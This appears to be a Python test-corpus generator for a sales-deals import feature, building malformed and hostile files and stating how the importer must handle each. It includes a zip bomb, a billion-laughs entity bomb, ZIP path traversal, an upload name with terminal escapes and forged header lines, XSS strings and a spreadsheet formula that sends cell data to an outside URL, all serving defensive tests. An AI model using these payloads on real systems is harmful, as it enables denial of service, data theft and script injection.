"""The hostile-input corpus: every file, how it is built, and what the import must do with it.

Run ``python tests/corpus/make_corpus.py DIR`` to write every file to DIR (the large ones included); the small
ones are also kept in ``tests/corpus/files/`` so they can be opened and read. ``tests/integration/test_corpus.py``
puts each through the import path the UI uses (``prepare`` then ``load``) and checks the expected outcome;
``benchmarks/corpus.py`` runs each in its own process and reports time and peak memory per file.
"""

from __future__ import annotations

import codecs
import io
import random
import re
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import openpyxl

SMALL_LIMIT = 64 * 1024  # files up to this size are kept in tests/corpus/files/
HEADER = "Opportunity ID,Opportunity Name,Stage,Amount,Close Date,Opportunity Owner"


@dataclass(frozen=True)
class Expect:
    """What the import must do: refuse the file (message pattern), load it, or leave it unrecognised."""

    outcome: str  # "refused" | "loaded" | "unrecognised"
    message: str = ""  # regex the refusal (or a note) must match
    loaded: int | None = None  # rows written to the store
    rejected: int | None = None  # rows rejected with a reason
    values: dict[str, dict[str, object]] = field(default_factory=dict)  # id -> field -> stored value
    note: str = ""  # regex one of the batch notes must match


@dataclass(frozen=True)
class Case:
    """One corpus file: its name on disk, the name it is uploaded under, how to build it, what must happen."""

    file: str
    build: Callable[[], bytes]
    expect: Expect
    upload_name: str = ""

    @property
    def name(self) -> str:
        """The file name the browser sends (may differ from the name on disk)."""
        return self.upload_name or self.file


def deals_csv(*rows: str, header: str = HEADER, sep: str = ",", newline: str = "\n") -> bytes:
    """A deals export with ``rows`` under the usual Salesforce header."""
    return newline.join([header.replace(",", sep), *rows]).encode("utf-8") + newline.encode()


GOOD = ("O-1,Acme,Closed Won,1000,2024-03-01,Ann", "O-2,Beta,Prospecting,250.50,2024-04-15,Bob")


def workbook(rows: list[list[object]], *, sheets: tuple[str, ...] = ()) -> bytes:
    """An .xlsx with ``rows`` on a sheet named Deals (after empty ``sheets`` placed in front)."""
    book = openpyxl.Workbook()
    first = book.active
    first.title = sheets[0] if sheets else "Deals"
    for name in sheets[1:]:
        book.create_sheet(name)
    sheet = book.create_sheet("Deals") if sheets else first
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def rewrite_member(data: bytes, member: str, change: Callable[[bytes], bytes]) -> bytes:
    """The ZIP ``data`` with one member's bytes passed through ``change``."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            payload = source.read(info.filename)
            target.writestr(info.filename, change(payload) if info.filename == member else payload)
    return out.getvalue()


def zip_of(members: dict[str, bytes]) -> bytes:
    """A deflated ZIP holding ``members``."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, payload in members.items():  # fixed dates: the same bytes on every run
            archive.writestr(zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0)), payload, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def good_book() -> bytes:
    """A small valid deals workbook."""
    return workbook([HEADER.split(","), *[row.split(",") for row in GOOD]])


def phantom_dimension() -> bytes:
    """Six real rows under a <dimension> claiming A1:XFD1048576 (whole columns formatted)."""
    rows = [HEADER.split(",")] + [[f"O-{i}", f"Co {i}", "Closed Won", 100 * i, "2024-01-31", "Ann"] for i in range(6)]
    return rewrite_member(
        workbook(rows),
        "xl/worksheets/sheet1.xml",
        lambda xml: re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', xml),
    )


def xlsx_bomb() -> bytes:
    """A workbook whose sheet XML unpacks to 200 MB of blanks (about 200 KB packed)."""
    return rewrite_member(
        good_book(),
        "xl/worksheets/sheet1.xml",
        lambda xml: xml.replace(b"</worksheet>", b" " * 200_000_000 + b"</worksheet>"),
    )


def entity_bomb() -> bytes:
    """A workbook whose sheet XML declares a billion-laughs entity (10^9 "lol"s) and uses it in a cell."""
    lol = (
        b'<!DOCTYPE worksheet [<!ENTITY lol "lol">'
        + b"".join(b'<!ENTITY lol%d "%s">' % (i + 1, (b"&lol%d;" % i if i else b"&lol;") * 10) for i in range(9))
        + b"]>"
    )
    book = workbook([HEADER.split(","), GOOD[0].split(",")])
    return rewrite_member(
        book, "xl/worksheets/sheet1.xml", lambda xml: lol + xml.replace(b"<t>Acme</t>", b"<t>&lol9;</t>")
    )


def wide_xlsx() -> bytes:
    """16,384 columns (Excel's maximum) in an .xlsx."""
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet("Deals")
    sheet.append([f"c{i}" for i in range(16_384)])
    sheet.append(["x"] * 16_384)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def garbage() -> bytes:
    """Deterministic random bytes."""
    return random.Random(12).randbytes(20_000)


def one_line(size: int) -> bytes:
    """A file that is one line of ``size`` bytes: hundreds of thousands of header cells."""
    return (b"a," * (size // 2))[:size]


def utf8_with_one_cp1252_byte() -> bytes:
    """200 KB of UTF-8 with accented names and one Windows-1252 byte (an é) far down the file."""
    rows = [f"O-{i},Zoë Müller GmbH,Closed Won,{i},2024-02-01,Łukasz" for i in range(3000)]
    text = deals_csv(*rows)
    at = text.index(b"O-2500,")
    return text[:at] + b"O-X,Caf\xe9 Noir,Closed Won,5,2024-02-01,Ann\n" + text[at:]


def big_cell() -> bytes:
    """One 10 MB cell in a notes column."""
    return (HEADER + ",Description\n").encode() + b"O-1,Acme,Closed Won,10,2024-01-01,Ann," + b"x" * 10_485_760 + b"\n"


def ole_container() -> bytes:
    """What Excel writes for a password-protected workbook (and for old .xls): an OLE compound file."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + b"EncryptedPackage".ljust(512, b"\0")


def preamble() -> bytes:
    """A report-style export: title, filter and blank lines above the header."""
    return b"Opportunity Pipeline Report\nFiltered By: Close Date = FY2024\n\n" + deals_csv(*GOOD)


REFUSE_EMPTY = "file is empty"
CASES: list[Case] = [
    Case("empty.csv", lambda: b"", Expect("refused", REFUSE_EMPTY)),
    Case("bom_only.csv", lambda: codecs.BOM_UTF8, Expect("refused", "no header row|no data rows")),
    Case("header_only.csv", deals_csv, Expect("refused", "header row but no data rows")),
    Case("blank_lines_only.csv", lambda: b"\r\n \n\t\n", Expect("refused", "no header row found")),
    Case("binary_garbage.csv", garbage, Expect("refused", "not a CSV, TSV or Excel file")),
    Case(
        "report.pdf.csv",
        lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n",
        Expect("refused", "it is a PDF document"),
    ),
    Case("archive.gz.csv", lambda: b"\x1f\x8b\x08\x00" + bytes(40), Expect("refused", "gzip archive")),
    Case("program.exe.csv", lambda: b"MZ\x90\x00\x03" + bytes(60), Expect("refused", "Windows program")),
    Case(
        "photos.zip",
        lambda: zip_of({"a.png": b"\x89PNG....", "b.pdf": b"%PDF-1.4"}),
        Expect("refused", "holds no CSV, TSV or Excel"),
    ),
    Case(
        "not_a_workbook.xlsx",
        lambda: zip_of({"readme.md": b"# hi"}),
        Expect("refused", "not a readable Excel workbook"),
    ),
    Case(
        "truncated.xlsx",
        lambda: good_book()[: len(good_book()) // 2],
        Expect("refused", "not a readable Excel workbook"),
    ),
    Case("password_protected.xlsx", ole_container, Expect("refused", "password-protected")),
    Case("legacy.xls", ole_container, Expect("refused", "old .xls")),
    Case("bomb.xlsx", xlsx_bomb, Expect("refused", "would unpack to")),
    Case("entity_bomb.xlsx", entity_bomb, Expect("refused", "not a readable Excel workbook")),
    Case("phantom_dimension.xlsx", phantom_dimension, Expect("loaded", loaded=6, rejected=0)),
    Case("columns_16384.xlsx", wide_xlsx, Expect("refused", "16,384 columns; the limit is 2,000")),
    Case(
        "columns_16384.csv",
        (",".join(f"c{i}" for i in range(16_384)) + "\n" + "x," * 16_383 + "x\n").encode,
        Expect("refused", "16,384 columns; the limit is 2,000"),
    ),
    Case(
        "columns_2000.csv",
        (HEADER + "," + ",".join(f"c{i}" for i in range(1994)) + "\n" + GOOD[0] + ",v" * 1994 + "\n").encode,
        Expect("loaded", loaded=1, rejected=0),
    ),
    Case(
        "ragged_rows.csv",
        lambda: deals_csv(
            "O-1,Acme,Closed Won,10,2024-01-01,Ann,extra,more",
            "O-2,Beta,Closed Lost",
            "O-3,Gamma,Prospecting,5,2024-02-01,Bob",
        ),
        Expect("loaded", loaded=3, rejected=0, values={"O-2": {"amount": None}}),
    ),
    Case(
        "unterminated_quote.csv",
        lambda: deals_csv('O-1,"Acme,Closed Won,10,2024-01-01,Ann', "O-2,Beta,Closed Won,5,2024-01-02,Bob"),
        Expect("refused", "not a readable CSV file.*(EOF|row|line)"),
    ),
    Case(
        "quoted_newlines.csv",
        lambda: deals_csv('O-1,"Acme\nHoldings",Closed Won,10,2024-01-01,Ann', GOOD[1]),
        Expect("loaded", loaded=2, rejected=0, values={"O-1": {"name": "Acme\nHoldings"}}),
    ),
    Case("cell_10mb.csv", big_cell, Expect("refused", r"row 1, column 'Description' holds 10,485,760 characters")),
    Case(
        "nul_bytes.csv",
        lambda: deals_csv(GOOD[0], "O-2,Be\x00ta,Closed Won,5,2024-01-02,Bob"),
        Expect("refused", "line 3 holds a NUL byte"),
    ),
    Case(
        "utf16_no_bom.csv",
        lambda: deals_csv(*GOOD, "O-3,Société Générale,Closed Won,7,2024-05-01,Zoë").decode().encode("utf-16-le"),
        Expect(
            "loaded",
            loaded=3,
            rejected=0,
            note="UTF-16-LE",
            values={"O-3": {"name": "Société Générale", "owner": "Zoë"}},
        ),
    ),
    Case(
        "utf16_bom_tab.txt",
        lambda: (
            codecs.BOM_UTF16_LE
            + deals_csv(*[r.replace(",", "\t") for r in GOOD], sep="\t", newline="\r\n").decode().encode("utf-16-le")
        ),
        Expect("loaded", loaded=2, rejected=0),
    ),
    Case(
        "utf8_one_cp1252_byte.csv",
        utf8_with_one_cp1252_byte,
        Expect(
            "loaded",
            loaded=3001,
            rejected=0,
            note=r"1 byte\(s\) are not UTF-8 \(the first on line 2,502\)",
            values={"O-X": {"name": "Café Noir"}, "O-7": {"name": "Zoë Müller GmbH", "owner": "Łukasz"}},
        ),
    ),
    Case(
        "cp1252.csv",
        lambda: deals_csv("O-1,Crème Brûlée SARL,Closed Won,10,2024-01-01,José").decode().encode("cp1252"),
        Expect(
            "loaded",
            loaded=1,
            rejected=0,
            note="read as cp1252",
            values={"O-1": {"name": "Crème Brûlée SARL", "owner": "José"}},
        ),
    ),
    Case(
        "semicolon_decimal_comma.csv",
        lambda: deals_csv(
            "O-1;Acme;Closed Won;1.234,50;01.03.2024;Ann", "O-2;Beta;Closed Won;99,9;15.03.2024;Bob", sep=";"
        ),
        Expect("loaded", loaded=2, rejected=0, values={"O-1": {"amount": 1234.5}, "O-2": {"amount": 99.9}}),
    ),
    Case(
        "duplicate_blank_headers.csv",
        lambda: deals_csv("O-1,Acme,Closed Won,10,2024-01-01,Ann,20,x", header=HEADER + ",Amount,"),
        Expect("loaded", loaded=1, rejected=0, values={"O-1": {"amount": 10.0}}),
    ),
    Case("preamble.csv", preamble, Expect("loaded", loaded=2, rejected=0, note="above the header")),
    Case(
        "ambiguous_dates.csv",
        lambda: deals_csv("O-1,Acme,Closed Won,10,03/04/2024,Ann", "O-2,Beta,Closed Won,5,05/06/2024,Bob"),
        Expect("loaded", loaded=2, rejected=0),
    ),
    Case(
        "money_formats.csv",
        lambda: deals_csv(
            'O-1,Acme,Closed Won,"(1,234.00)",2024-01-01,Ann',
            "O-2,Beta,Closed Won,1 234,50,2024-01-02,Bob".replace("1 234,50", '"1 234,50"'),
            "O-3,Gamma,Closed Won,−5,2024-01-03,Cy",
            'O-4,Delta,Closed Won,"$1,234.50",2024-01-04,Di',
        ),
        Expect("loaded", loaded=2, rejected=2, values={"O-2": {"amount": 1234.5}, "O-4": {"amount": 1234.5}}),
    ),
    Case(
        "mixed_currencies.csv",
        lambda: deals_csv(
            "O-1,Acme,Closed Won,$100,2024-01-01,Ann",
            "O-2,Beta,Closed Won,€200,2024-01-02,Bob",
            "O-3,Gamma,Closed Won,¥300,2024-01-03,Cy",
        ),
        Expect(
            "loaded",
            loaded=3,
            rejected=0,
            note="currenc",
            values={"O-1": {"currency": "USD"}, "O-2": {"currency": "EUR"}, "O-3": {"currency": "JPY"}},
        ),
    ),
    Case(
        "na_is_namibia.csv",
        lambda: b"Lead ID,Company,Country,Lead Source\nL-1,Etosha Tours,NA,Web\nL-2,Null Island,null,Referral\n",
        Expect("loaded", loaded=2, rejected=0, values={"L-1": {"country": "NA"}, "L-2": {"country": "null"}}),
    ),
    Case(
        "ids_leading_zeros.csv",
        lambda: deals_csv(
            "000123,Acme,Closed Won,10,2024-01-01,Ann", "123456789012345678,Beta,Closed Won,5,2024-01-02,Bob"
        ),
        Expect(
            "loaded", loaded=2, rejected=0, values={"000123": {"name": "Acme"}, "123456789012345678": {"name": "Beta"}}
        ),
    ),
    Case(
        "nonfinite_amounts.csv",
        lambda: deals_csv(
            GOOD[0],
            "O-2,B,Closed Won,1e309,2024-01-02,Bob",
            "O-3,C,Closed Won,inf,2024-01-02,Bob",
            "O-4,D,Closed Won,NaN,2024-01-02,Bob",
            "O-5,E,Closed Won,1e308,2024-01-02,Bob",
            "O-6,F,Closed Won,-inf,2024-01-02,Bob",
        ),
        Expect("loaded", loaded=1, rejected=5),
    ),
    Case(
        "zip_1000_files.zip",
        lambda: zip_of({f"d{i}.csv": deals_csv(GOOD[0]) for i in range(1000)}),
        Expect("refused", "1,000 files; the limit is 200"),
    ),
    Case(
        "zip_traversal.zip",
        lambda: zip_of({"deals.csv": deals_csv(*GOOD), "../../evil.csv": deals_csv(GOOD[0])}),
        Expect("refused", r"'\.\./\.\./evil\.csv' points outside the archive"),
    ),
    Case(
        "zip_of_two.zip",
        lambda: zip_of({"export/deals.csv": deals_csv(*GOOD), "export/logo.png": b"\x89PNG"}),
        Expect("loaded", loaded=2, rejected=0, note="left out 1 file"),
    ),
    Case(
        "hostile_name.csv",
        lambda: deals_csv(*GOOD),
        Expect("loaded", loaded=2, rejected=0),
        upload_name="..\\..\\evil/\x1b[31mred\x07\r\nforged: ok\u202e.csv",
    ),
    Case("one_line_1mb.csv", lambda: one_line(1 << 20), Expect("refused", "columns; the limit is 2,000")),
    Case("one_line_50mb.csv", lambda: one_line(50 << 20), Expect("refused", "first line is longer than 1 MB")),
    Case(
        "crlf_mixed_endings.csv",
        (HEADER + "\r\n" + GOOD[0] + "\n" + GOOD[1]).encode,
        Expect("loaded", loaded=2, rejected=0),
    ),
    Case(
        "report_footer.csv",
        lambda: (
            deals_csv(*GOOD) + b'\n"Grand Totals (2 records)"\n\n"Confidential Information - Do Not Distribute"\n'
            b'"Copyright (c) 2000-2024 salesforce.com, inc. All rights reserved."\n'
        ),
        Expect("loaded", loaded=2, rejected=0),
    ),
    Case(
        "html_page.csv",
        lambda: b"<html><body><script>alert(1)</script><img src=x onerror=alert(1)></body></html>\n",
        Expect("refused", "header row but no data rows"),
    ),
    Case(
        "html_table.csv",
        lambda: b"<html><body>\n<table><tr><td>Acme</td></tr></table>\n<script>alert(1)</script>\n</body></html>\n",
        Expect("unrecognised"),
    ),
    Case("text_as.xlsx", lambda: deals_csv(*GOOD), Expect("loaded", loaded=2, rejected=0)),
    Case(
        "cover_sheet.xlsx",
        lambda: workbook([HEADER.split(","), *[r.split(",") for r in GOOD]], sheets=("Read me", "Notes")),
        Expect("loaded", loaded=2, rejected=0),
    ),
    Case(
        "injection_values.csv",
        lambda: deals_csv(
            'O-1,"=HYPERLINK(""http://x/?""&A1)",Closed Won,10,2024-01-01,@SUM(1)',
            "O-2,<img src=x onerror=alert(1)>,Closed Won,5,2024-01-02,[x](javascript:alert(1))",
        ),
        Expect(
            "loaded",
            loaded=2,
            rejected=0,
            values={
                "O-1": {"name": '=HYPERLINK("http://x/?"&A1)', "owner": "@SUM(1)"},
                "O-2": {"name": "<img src=x onerror=alert(1)>"},
            },
        ),
    ),
]


def build_all(out: Path, *, small_only: bool = False) -> list[Path]:
    """Write every corpus file (or only the small ones) into ``out``; return their paths."""
    out.mkdir(parents=True, exist_ok=True)
    written = []
    for case in CASES:
        data = case.build()
        if small_only and len(data) > SMALL_LIMIT:
            continue
        path = out / case.file
        path.write_bytes(data)
        written.append(path)
    return written


if __name__ == "__main__":
    target = Path(sys.argv[1]) if len(sys.argv) > 1 else Path(__file__).parent / "files"
    paths = build_all(target, small_only="--small-only" in sys.argv)
    print(f"{len(paths)} files written to {target}")
